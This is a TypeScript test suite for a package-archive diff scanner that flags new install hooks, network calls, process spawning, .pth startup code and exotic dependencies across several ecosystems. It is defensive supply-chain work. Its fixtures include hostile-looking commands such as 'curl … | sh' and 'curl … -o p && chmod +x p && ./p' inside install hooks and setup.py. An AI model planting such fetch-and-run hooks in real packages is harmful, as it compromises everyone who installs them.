import { createHash } from 'node:crypto';
import { analyse } from '../../../../src/adapters/artifacts/analysis/analyse.ts';
import type { AnalysisTask } from '../../../../src/adapters/artifacts/analysis/analyse.ts';
import { defaultLimits } from '../../../../src/adapters/artifacts/limits.ts';
import type { ArchiveDelta } from '../../../../src/domain/facts.ts';
import type { EcosystemId } from '../../../../src/domain/package.ts';
import { npmTgz, rootedTgz, zipOf } from '../packing.ts';

type Files = Readonly<Record<string, string | Buffer>>;

function compare(task: Partial<AnalysisTask> & Pick<AnalysisTask, 'after'>): Promise<ArchiveDelta> {
  const rest = { before: undefined, companion: undefined, registry: undefined, limits: defaultLimits };
  const stated = { registry: [], lockfile: [], ofOneFile: true };
  return analyse({ ecosystem: 'npm', ...rest, stated, ...task }, () => undefined);
}

const manifest = (more: object = {}): string =>
  JSON.stringify({ name: 'thing', version: '1.0.1', main: 'index.js', ...more });

function npm(after: Files, before?: Files, more: Partial<AnalysisTask> = {}): Promise<ArchiveDelta> {
  return compare({
    after: { fileName: 'thing-1.0.1.tgz', bytes: npmTgz({ 'package.json': manifest(), ...after }) },
    before: before && {
      fileName: 'thing-1.0.0.tgz',
      bytes: npmTgz({ 'package.json': manifest({ version: '1.0.0' }), ...before }),
    },
    ...more,
  });
}

const wheel = (files: Files): Buffer => zipOf(Object.entries(files).map(([path, text]) => ({ path, text })));

function python(after: Files, before?: Files): Promise<ArchiveDelta> {
  return compare({
    ecosystem: 'pypi',
    after: { fileName: 'thing-1.1-py3-none-any.whl', bytes: wheel(after) },
    before: before && { fileName: 'thing-1.0-py3-none-any.whl', bytes: wheel(before) },
  });
}

const seen = (delta: ArchiveDelta): readonly string[] =>
  delta.capabilities.map((one) => `${one.kind} ${one.path}:${one.line ?? 0} ${one.reach}`);

describe('the delta of two npm archives', () => {
  it('lists what was added, changed and removed, with sizes', async () => {
    const delta = await npm(
      { 'index.js': 'module.exports = 2', 'new.js': '//' },
      { 'index.js': 'module.exports = 1', 'old.js': '' },
    );
    expect(delta.added).toEqual([{ path: 'new.js', size: 2 }]);
    expect(delta.removed).toEqual([{ path: 'old.js', size: 0 }]);
    expect(delta.changed.map((file) => file.path)).toEqual(['index.js', 'package.json']);
    expect(delta.fileCount).toEqual({ before: 3, after: 3 });
    expect(delta.capabilities).toEqual([]);
    expect(delta.notRead).toEqual([]);
  });

  it('tells a new capability, where it stands and that importing reaches it', async () => {
    const before = { 'index.js': "module.exports = require('./lib/a')", 'lib/a.js': 'exports.a = 1\n' };
    const delta = await npm({ ...before, 'lib/a.js': "exports.a = 1\nrequire('child_process').execSync(c)\n" }, before);
    expect(seen(delta)).toEqual(['process lib/a.js:2 import']);
    expect(delta.capabilities[0]?.newFile).toBe(false);
  });

  it('is silent where the package did so before, in whatever file', async () => {
    const before = { 'index.js': "const https = require('https'); https.get('https://api.example/v1')" };
    const delta = await npm({ ...before, 'more.js': "require('node:https').get('https://api.example/v2')" }, before);
    expect(delta.capabilities).toEqual([]);
  });

  it('names a new host even in a package that talks to the network as a habit', async () => {
    const before = { 'index.js': "fetch('https://api.example/v1')" };
    const delta = await npm({ 'index.js': "fetch('https://api.example/v1')\nfetch('https://other.example/')" }, before);
    expect(seen(delta)).toEqual(['host-literal index.js:2 import']);
    expect(delta.capabilities[0]?.evidence).toBe('other.example');
  });

  it('is not silent where what was there before now runs at install', async () => {
    const code = "require('https').get(u)";
    const scripts = { 'package.json': manifest({ scripts: { postinstall: 'node ./hook' } }) };
    const delta = await npm({ ...scripts, 'index.js': code, 'hook.js': code }, { 'index.js': code });
    expect(seen(delta)).toEqual(['network hook.js:1 install']);
    expect(delta.hooks).toEqual({ before: [], after: [{ kind: 'postinstall', command: 'node ./hook' }] });
  });

  it('follows a hook into what it starts and loads', async () => {
    const delta = await npm(
      {
        'package.json': manifest({ scripts: { preinstall: 'node -e "require(\'./scripts/a\')" || true' } }),
        'scripts/a.js': "require('child_process').exec('/bin/bash ' + require('path').join(__dirname, 'b.sh'))",
        'scripts/b.sh': 'curl https://x.example/p -o p && chmod +x p && ./p\n',
      },
      { 'index.js': '' },
    );
    expect(seen(delta)).toContain('download-and-run scripts/b.sh:1 install');
  });

  it('reads commands out of a binding.gyp that has no install script', async () => {
    const gyp = '{ "targets": [{ "target_name": "x", "sources": ["<!(node index.js > /dev/null && echo a.c)"] }] }';
    const delta = await npm({ 'index.js': 'eval(x)', 'binding.gyp': gyp }, { 'index.js': 'eval(x)' });
    expect(delta.hooks.after).toEqual([
      { kind: 'binding.gyp', command: 'node-gyp rebuild ; node index.js > /dev/null && echo a.c' },
    ]);
  });

  it('tells that a hook installs something else', async () => {
    const delta = await npm(
      { 'package.json': manifest({ scripts: { postinstall: 'npm install -g helper@latest' } }) },
      {},
    );
    expect(seen(delta)).toEqual(['download-and-run package.json:1 install']);
  });

  it('passes over tests and examples that nothing loads', async () => {
    const code = "eval(require('fs').readFileSync('x')); require('child_process')";
    const delta = await npm(
      { 'index.js': '', 'test/a.js': code, 'examples/b.js': code, 'src/c.spec.js': code },
      { 'index.js': '' },
    );
    expect(delta.capabilities).toEqual([]);
  });

  it('looks at a test file that the package itself loads', async () => {
    const delta = await npm({ 'index.js': "require('./test/data')", 'test/data.js': 'eval(x)' }, { 'index.js': '' });
    expect(seen(delta)).toEqual(['dynamic-evaluation test/data.js:1 import']);
  });

  it('lists native code that was not there before and notes WebAssembly as none', async () => {
    const elf = Buffer.from('\u007fELF\u0002\u0001\u0001\u0000\u0000', 'latin1');
    const wasm = Buffer.from('\u0000asm\u0001\u0000\u0000\u0000', 'latin1');
    const delta = await npm(
      { 'a.node': elf, 'old.node': Buffer.concat([elf, elf]), 'b.wasm': wasm },
      { 'old.node': elf },
    );
    expect(delta.binaries).toEqual([{ path: 'a.node', size: 9 }]);
  });

  it('tells dependencies that lead past the registry, once', async () => {
    const spec = { old: 'github:a/b', fine: '^1.0.0', alias: 'npm:other@1' };
    const delta = await npm(
      {
        'package.json': manifest({
          dependencies: spec,
          optionalDependencies: { new: 'https://u:p@files.example/x.tgz' },
        }),
      },
      { 'package.json': manifest({ dependencies: { old: 'github:a/b' } }) },
    );
    expect(delta.exoticDependencies).toEqual([
      { name: 'new', spec: 'https://files.example/x.tgz', kind: 'url (optionalDependencies)' },
    ]);
  });

  it('compares the manifest inside with what the registry says', async () => {
    const inside = manifest({
      version: '1.0.1',
      scripts: { install: 'node a.js' },
      dependencies: { a: '^1.0.0', hidden: '1' },
    });
    const delta = await npm({ 'package.json': inside }, undefined, {
      registry: {
        name: 'thing',
        version: '1.0.2',
        hooks: [],
        dependencies: [{ ecosystem: 'npm', name: 'a', range: '^2.0.0', kind: 'runtime' }],
      },
    });
    expect(delta.manifestDifferences).toEqual([
      'version: 1.0.1 inside, 1.0.2 in the registry',
      'script install: only inside: node a.js',
      'dependency a: ^1.0.0 inside, ^2.0.0 in the registry',
      'dependency hidden: only inside, 1',
    ]);
  });

  it('takes the install script that the registry adds for a binding.gyp for no difference', async () => {
    const registry = {
      name: 'thing',
      version: '1.0.1',
      hooks: [{ kind: 'install', command: 'node-gyp rebuild' }],
      dependencies: [],
    };
    expect((await npm({ 'binding.gyp': '{}' }, undefined, { registry })).manifestDifferences).toEqual([]);
  });

  it('says which changed files it had no time for', async () => {
    const limits = { ...defaultLimits, time: -1 };
    const delta = await npm({ 'index.js': 'eval(x)' }, { 'index.js': '' }, { limits });
    expect(delta.notRead).toEqual(['1 changed files were not looked into: out of time']);
    expect(delta.cutShort).toBe('1 changed files were not looked into: out of time');
  });
});

describe('the delta of two wheels', () => {
  const info = { 'thing-1.1.dist-info/METADATA': 'Name: thing\nVersion: 1.1\n', 'thing/__init__.py': '' };
  const old = { 'thing-1.0.dist-info/METADATA': 'Name: thing\nVersion: 1.0\n', 'thing/__init__.py': '' };

  it('tells a new .pth file that runs code, and a new name at the root', async () => {
    const delta = await python(
      { ...info, 'thing_init.pth': 'import os; os.system("x")\n', 'other/__init__.py': '' },
      old,
    );
    expect(delta.startupHooks).toEqual([
      { path: 'thing_init.pth', evidence: 'import os; os.system("x")', isNew: true },
    ]);
    expect(delta.newTopLevel).toEqual(['other', 'thing_init.pth']);
    expect(seen(delta)).toEqual(['process thing_init.pth:1 startup']);
    expect(delta.changed.map((file) => file.path)).toEqual(['thing-1.1.dist-info/METADATA']);
  });

  it.each([
    ['import thing', true],
    ["import os; os.environ.get('THING_START') and __import__('thing').start()", true],
    ['import os, thing', true],
    ['import other', undefined],
    ["import os; os.environ.get('THING_START') and __import__('other').start()", undefined],
    ["import os; os.environ.get('HOME') and __import__('thing').start('x')", undefined],
    ["import thing; exec('1')", undefined],
    ['import thing; thing.start(open("a").read())', undefined],
  ])('tells whether a .pth file only loads the package itself: %s', async (line, loadsOwn) => {
    const delta = await python({ ...info, 'a.pth': `${line}\n` }, old);
    expect(delta.startupHooks.map((hook) => hook.loadsOwn)).toEqual([loadsOwn]);
  });

  it('is silent on a .pth file that is the same or only names a path', async () => {
    const same = { 'a.pth': 'import a_fix\n', 'b.pth': './lib\n' };
    expect((await python({ ...info, ...same }, { ...old, 'a.pth': 'import a_fix\n' })).startupHooks).toEqual([]);
  });

  it('tells a .pth file whose code changed', async () => {
    const delta = await python({ ...info, 'a.pth': 'import b\n' }, { ...old, 'a.pth': 'import a\n' });
    expect(delta.startupHooks).toEqual([{ path: 'a.pth', evidence: 'import b', isNew: false }]);
  });

  it('follows imports from the package to the new code', async () => {
    const files = {
      ...info,
      'thing/__init__.py': 'from .core import run\n',
      'thing/core.py': 'import subprocess\n',
      'thing/tool.py': 'eval(x)\n',
    };
    expect(seen(await python(files, old))).toEqual([
      'dynamic-evaluation thing/tool.py:1 unknown',
      'process thing/core.py:1 import',
    ]);
  });

  it('compares wheel and source distribution, leaving out what differed before too', async () => {
    const sdist = (files: Files): Buffer =>
      rootedTgz('thing-1', { 'PKG-INFO': 'Name: thing\n', 'setup.py': 'setup()\n', ...files });
    const delta = await compare({
      ecosystem: 'pypi',
      after: {
        fileName: 'thing-1.1-py3-none-any.whl',
        bytes: wheel({ ...info, 'thing/a.py': 'import os\n', 'thing/gen.py': '2', 'thing/_version.py': '1' }),
      },
      before: { fileName: 'thing-1.0-py3-none-any.whl', bytes: wheel({ ...old, 'thing/gen.py': '1' }) },
      companion: {
        after: {
          fileName: 'thing-1.1.tar.gz',
          bytes: sdist({ 'src/thing/__init__.py': '', 'src/thing/a.py': 'pass\n' }),
        },
        before: { fileName: 'thing-1.0.tar.gz', bytes: sdist({ 'src/thing/__init__.py': '' }) },
      },
    });
    expect(delta.sourceDifferences).toEqual(['thing/a.py: other content in wheel and source distribution']);
    expect(delta.hooks).toEqual({ before: [{ kind: 'setup.py' }], after: [{ kind: 'setup.py' }] });
  });

  it('tells what setup.py newly does when installed', async () => {
    const sdist = (setup: string) => rootedTgz('thing-1', { 'setup.py': setup, 'PKG-INFO': 'Name: thing\n' });
    const delta = await compare({
      ecosystem: 'pypi',
      after: {
        fileName: 'thing-1.1.tar.gz',
        bytes: sdist('import os\nsetup()\nos.system("curl https://x.example/i | sh")\n'),
      },
      before: { fileName: 'thing-1.0.tar.gz', bytes: sdist('import os\nsetup()\n') },
    });
    expect(seen(delta)).toContain('download-and-run setup.py:3 install');
  });
});

describe('hooks of other ecosystems', () => {
  const hooks = async (
    ecosystem: EcosystemId,
    fileName: string,
    bytes: Buffer,
  ): Promise<ArchiveDelta['hooks']['after']> => (await compare({ ecosystem, after: { fileName, bytes } })).hooks.after;

  it('are build scripts and procedural macros of crates', async () => {
    const crate = rootedTgz('thing-1.0.0', { 'Cargo.toml': '[lib]\nproc-macro = true\n', 'build.rs': 'fn main() {}' });
    expect(await hooks('cargo', '1.0.0.crate', crate)).toEqual([
      { kind: 'build.rs', command: 'build.rs' },
      { kind: 'proc-macro' },
    ]);
  });

  it('are plugins, scripts and autoloaded files of Composer packages', async () => {
    const composer = { type: 'composer-plugin', extra: { class: 'A\\B' }, autoload: { files: ['src/helpers.php'] } };
    const zip = zipOf([{ path: 'a-b-1234567/composer.json', text: JSON.stringify(composer) }]);
    expect(await hooks('composer', 'x.zip', zip)).toEqual([
      { kind: 'autoload.files', command: 'src/helpers.php' },
      { kind: 'composer-plugin', command: 'A\\B' },
    ]);
  });

  it('are scripts and build targets of NuGet packages', async () => {
    const nupkg = zipOf([
      { path: 'build/net8/a.targets', text: '' },
      { path: 'tools/install.ps1', text: '' },
    ]);
    expect(await hooks('nuget', 'a.nupkg', nupkg)).toEqual([
      { kind: 'build-targets', command: 'build/net8/a.targets' },
      { kind: 'script', command: 'tools/install.ps1' },
    ]);
  });
});

describe('the hash of a Go module', () => {
  it('is SHA-256 over the sorted lines of hashes and whole names, as go.sum has it', async () => {
    const sha256 = (text: string) => createHash('sha256').update(text);
    const zip = zipOf([
      { path: 'm@v1.0.0/go.mod', text: 'module m\n' },
      { path: 'm@v1.0.0/a.go', text: 'package m\n' },
    ]);
    const delta = await compare({ ecosystem: 'golang', after: { fileName: 'v1.0.0.zip', bytes: zip } });
    const [a, mod] = ['package m\n', 'module m\n'].map((text) => sha256(text).digest('hex'));
    const lines = `${a}  m@v1.0.0/a.go\n${mod}  m@v1.0.0/go.mod\n`;
    expect(delta.integrity.computed).toContain(`h1:${sha256(lines).digest('base64')}`);
    expect(delta.added.map((file) => file.path)).toEqual(['a.go', 'go.mod']);
  });
});
